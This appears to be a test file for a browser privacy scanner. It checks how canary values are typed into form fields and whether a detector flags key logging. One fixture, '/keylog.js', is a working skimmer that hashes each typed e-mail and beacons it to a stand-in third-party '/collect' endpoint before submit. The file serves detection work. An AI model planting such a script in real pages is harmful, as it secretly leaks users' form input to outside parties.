/**
 * typeCanaries in real Chromium: the right canary in the right visible field (also in a
 * same-origin frame), nothing typed into hidden, read-only, search or cross-origin fields, never a
 * submit; and end to end with detect(): a key logger sending the e-mail's SHA-256 in a beacon is
 * reported, a form that sends nothing until submit is not.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CANARIES,
  CANARY_NAME_PARTS,
  canaryFor,
  typeCanaries,
} from '../../../src/scanner/browser/canaries.ts';
import { detect } from '../../../src/scanner/browser/detect.ts';
import { html, js, record, startSuite, type Suite } from './chromium.ts';

const FORM = `
  <form id="f" action="/submitted" method="post">
    <input id="email" type="email" name="contact">
    <input id="tel" autocomplete="tel" name="t1">
    <input id="given" name="first_name">
    <input id="family" autocomplete="family-name" name="x2">
    <input id="full" name="name">
    <input id="pw" type="password" name="secret">
    <label>Your e-mail address <input id="labelled" name="field7"></label>
    <input id="hidden" type="hidden" name="email_hidden" value="h">
    <input id="invisible" type="email" style="display:none">
    <input id="readonly" type="email" readonly value="r">
    <input id="search" type="search" name="q">
    <input id="other" name="coupon">
    <button id="send" type="submit">Send</button>
  </form>`;

let suite: Suite;

beforeAll(async () => {
  suite = await startSuite(({ third }) => ({
    '/form': html(`${FORM}
      <iframe id="same" src="/frame"></iframe><iframe id="cross" src="${third}/frame"></iframe>
      <script>
        document.getElementById('f').addEventListener('submit', (e) => { window.submitted = true; e.preventDefault(); });
        let loaded = 0; for (const f of document.querySelectorAll('iframe')) f.onload = () => { if (++loaded === 2) document.title = 'done'; };
      </script>`),
    '/frame': html('<input id="inner" type="email">'),
    '/keylogger': html(
      `${FORM}<script src="${third}/keylog.js"></script><script>document.title = 'done'</script>`,
    ),
    '/keylog.js': js(`
      document.addEventListener('change', async (event) => {
        if (event.target.type !== 'email') return;
        const bytes = new TextEncoder().encode(event.target.value.trim().toLowerCase());
        const digest = await crypto.subtle.digest('SHA-256', bytes);
        const hex = [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, '0')).join('');
        navigator.sendBeacon('${third}/collect', 'em=' + hex);
      });`),
    '/honest': html(`${FORM}<script>
      document.getElementById('f').addEventListener('submit', (e) => {
        e.preventDefault();
        fetch('/signup', { method: 'POST', body: new URLSearchParams(new FormData(e.target)) });
      });
      fetch('/analytics', { method: 'POST', body: 'event=view&path=%2Fhonest' });
      document.title = 'done';
    </script>`),
  }));
});
afterAll(() => suite?.close());

describe('typeCanaries', () => {
  it('fills the visible name, e-mail, phone and password fields (by type, autocomplete, name or label; also in a same-origin frame), nothing else, never submitting', async () => {
    const recording = await record(suite.browser, `${suite.site.first}/form`, 'done');
    try {
      const page = recording.page;
      expect(await typeCanaries(page, 15_000)).toBe(8);
      const value = (id: string) => page.locator(`#${id}`).inputValue();
      expect({
        email: await value('email'),
        tel: await value('tel'),
        given: await value('given'),
        family: await value('family'),
        full: await value('full'),
        pw: await value('pw'),
        labelled: await value('labelled'),
      }).toEqual({
        email: CANARIES.email,
        tel: CANARIES.phone,
        given: CANARY_NAME_PARTS.given,
        family: CANARY_NAME_PARTS.family,
        full: CANARIES.name,
        pw: CANARIES.password,
        labelled: CANARIES.email,
      });
      for (const [id, expected] of [
        ['hidden', 'h'],
        ['invisible', ''],
        ['readonly', 'r'],
        ['search', ''],
        ['other', ''],
      ]) {
        expect(await value(id!), id).toBe(expected);
      }
      expect(await page.frameLocator('#same').locator('#inner').inputValue()).toBe(CANARIES.email);
      expect(await page.frameLocator('#cross').locator('#inner').inputValue()).toBe('');
      expect(await page.evaluate('window.submitted === true')).toBe(false);
      expect(page.url()).toBe(`${suite.site.first}/form`);
      expect(suite.site.received.filter((r) => r.path === '/submitted')).toEqual([]);
    } finally {
      await recording.close();
    }
  });

  it('types nothing when the budget is spent', async () => {
    const recording = await record(suite.browser, `${suite.site.first}/form`, 'done');
    try {
      expect(await typeCanaries(recording.page, 0)).toBe(0);
      expect(await recording.page.locator('#email').inputValue()).toBe('');
    } finally {
      await recording.close();
    }
  });

  it.each([
    [{ type: 'email' }, 'email'],
    [{ autocomplete: 'section-a shipping tel-national' }, 'phone'],
    [{ autocomplete: 'new-password' }, 'password'],
    [{ name: 'user[email_address]' }, 'email'],
    [{ placeholder: 'Your name' }, 'name'],
    [{ type: 'checkbox', name: 'email_opt_in' }, undefined],
    [{ type: 'search', name: 'q' }, undefined],
    [{ name: 'coupon_code' }, undefined],
  ])('canaryFor(%j) → %s', (field, expected) => {
    expect(canaryFor(field)?.field).toBe(expected);
  });
});

describe('key logging end to end', () => {
  it('reports a key logger that beacons the SHA-256 of the typed e-mail before any submit', async () => {
    const recording = await record(suite.browser, `${suite.site.first}/keylogger`, 'done');
    try {
      await typeCanaries(recording.page, 15_000);
      await expect
        .poll(() => suite.site.received.some((r) => r.path === '/collect'), { timeout: 10_000 })
        .toBe(true);
      const found = detect(
        recording.visit(true),
        suite.classifier,
        `${suite.site.first}/keylogger`,
      ).keyLogging;
      expect(found).toMatchObject([
        {
          field: 'email',
          encoding: 'sha256',
          normalised: true,
          where: 'beacon',
          requestUrl: `${suite.site.third}/collect`,
          initiator: `${suite.site.third}/keylog.js`,
          initiatorParty: 'third',
          party: 'third',
        },
      ]);
    } finally {
      await recording.close();
    }
  });

  it('stays silent on a form that sends nothing until submit', async () => {
    const recording = await record(suite.browser, `${suite.site.first}/honest`, 'done');
    try {
      expect(await typeCanaries(recording.page, 15_000)).toBe(7);
      await recording.page.waitForTimeout(300);
      const visit = recording.visit(true);
      expect(visit.requests.some((r) => r.url.endsWith('/analytics'))).toBe(true);
      expect(detect(visit, suite.classifier, `${suite.site.first}/honest`).keyLogging).toEqual([]);
      expect(suite.site.received.filter((r) => r.path === '/signup')).toEqual([]);
    } finally {
      await recording.close();
    }
  });
});
